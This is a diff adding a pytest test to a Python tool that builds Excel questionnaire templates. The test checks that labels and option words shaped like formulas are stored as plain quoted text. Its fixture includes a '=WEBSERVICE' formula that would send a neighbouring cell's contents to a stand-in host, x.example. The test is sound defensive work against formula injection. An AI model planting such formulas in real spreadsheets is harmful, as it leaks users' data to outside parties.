@@ -183,6 +183,27 @@ def test_a_question_called_as_another_column_gets_a_name_of_its_own_and_long_lis
     assert guide["敷设方式要求"] == "、".join(many.values())
 
 
+def test_a_policy_whose_words_look_like_formulas_puts_none_into_the_template(tmp_path: Path) -> None:
+    """The label of a question sent the names that stood below it to a stranger, as soon as the file was opened."""
+    sends = '=WEBSERVICE("http://x.example/?"&A4)'
+    words = {"one": "=1+1", "two": "+二"}
+    questions: dict[LocalKey, Key] = {
+        LocalKey("local.flag", sends): FlagKey(),
+        LocalKey("local.way", "@方式", words=words): WordKey(tuple(words)),
+        LocalKey("local.depth", "-埋深", "=厘米"): NumberKey(zero=True),
+    }
+    write_template(tmp_path / "in.xlsx", table_of({"new_connection": "新装", "transfer": "=过户"}, questions, ()))
+    book = load_workbook(tmp_path / "in.xlsx")
+
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    held = {cell.value: cell for cell in cells if str(cell.value).startswith(("=", "+", "@", "-"))}
+    assert {sends, "@方式", "-埋深（=厘米）", "=过户", "=1+1、+二"} <= held.keys()
+    assert {cell.data_type for cell in held.values()} == {"s"}
+    assert all(cell.quotePrefix for cell in held.values()), "nor when it is edited"
+    lists = {one.formula1 for one in book[SHEET].data_validations.dataValidation}
+    assert not any(word in one for one in lists for word in ("=1+1", "=过户")), "a chosen word counts as typed"
+
+
 @pytest.mark.parametrize("place", ["jining", "yichuan", "zhongshan"])
 def test_every_title_of_a_template_is_a_column_and_every_word_it_offers_is_read(place: str) -> None:
     table = import_table(packs(), place)
